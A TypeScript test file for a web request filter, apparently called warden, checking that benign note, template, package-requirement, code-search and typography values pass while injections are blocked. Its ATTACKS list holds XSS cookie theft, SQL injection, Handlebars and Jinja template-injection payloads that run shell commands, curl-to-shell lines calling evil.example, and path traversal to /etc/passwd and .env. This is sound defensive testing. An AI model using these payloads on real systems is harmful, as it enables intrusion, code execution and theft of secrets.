/**
 * The shapes of blind benign set 20 (session 37, bb37, read) and the lead's hard benign values through the full pipeline
 * (bundled rules + the shipped model, `warden eval`): an AnkiConnect cloze note and a web clipper's Mustache template
 * (card-templates.ts), a package's requirement with an environment marker (requirement-spec.ts), a code search for a relative import
 * (code-search.ts) and a typographic
 * setting of named character references pass; injections in the same fields are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const json = (host: string, path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
const form = (host: string, path: string, field: string): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded' }, body: `name=Ann&${field}=${encodeURIComponent(v)}&send=1` });

const CARRIERS: Record<string, Carrier> = {
  'cloze note': json('127.0.0.1:8765', '/', (v) => ({ action: 'addNote', version: 6, params: { note: { deckName: 'Japanese', modelName: 'Cloze', fields: { Text: v, 'Back Extra': '' } } } })),
  'clip template': json('app.example-notes.md', '/api/clip', (v) => ({ url: 'https://blog.example.dev/posts/a', title: 'A post', template: v })),
  'requirement': json('pkgs.example-index.org', '/api/projects/app/requirements', (v) => ({ requirement: v, group: 'main' })),
  // A JSON search API: a browser's query string percent-encodes the slashes, and `..%2F` is 9000407's encoded traversal (alert), which sends the value to the model whatever its field.
  'code search': json('code.example.test', '/api/search', (v) => ({ q: v, page: 1 })),
  'typography': form('app.example.test', '/settings/typography', 'separator'),
};

const BENIGN: [string, string][] = [
  ['cloze note', '{{c1::猫::ねこ}}が{{c2::好き::すき}}です。'],
  ['clip template', '{{title}}\n{{url}}\n{{#highlights}}> {{text}}\n{{/highlights}}'],
  ['requirement', "numpy==1.26.*; python_version<'3.12'"],
  ['typography', '&nbsp;&mdash;&copy;'],
  ['code search', '../../shared/utils'],
];

const ATTACKS: [string, string][] = [
  ['cloze note', '{{c1::<script>alert(document.cookie)</script>}}'],
  ['cloze note', "{{c1::x' union select username, password from users--}}"],
  ['clip template', '{{#with "s" as |string|}}{{#with split as |conslist|}}{{this.push (lookup string.sub "constructor")}}{{#each conslist}}{{#with (string.sub.apply 0 "return process.mainModule.require(\'child_process\').execSync(\'id\')")}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}'],
  ['clip template', "{{#x}}{{7*7}}{{/x}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ['clip template', '{{#a}}; curl http://evil.example/x.sh | sh {{/a}}'],
  ['requirement', "numpy==1.26; python_version<'3.12' or '1'='1'"],
  ['requirement', "numpy; python_version<'3.12'; DROP TABLE users--"],
  ['requirement', "numpy; __import__('os').system('curl http://evil.example/x|sh')"],
  ['code search', '../../../../etc/passwd'],
  ['code search', '../../../../windows/win.ini'],
  ['code search', '../../.env'],
  ['typography', '&lt;script&gt;alert(document.cookie)&lt;/script&gt;'],
  ['typography', '&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;alert(1)&#60;/&#115;&#99;&#114;&#105;&#112;&#116;&#62;'],
];

testCarriers('value shapes of blind benign set 20 through the pipeline', 'lets the cloze, the template, the requirement and the references pass', CARRIERS, BENIGN, ATTACKS);
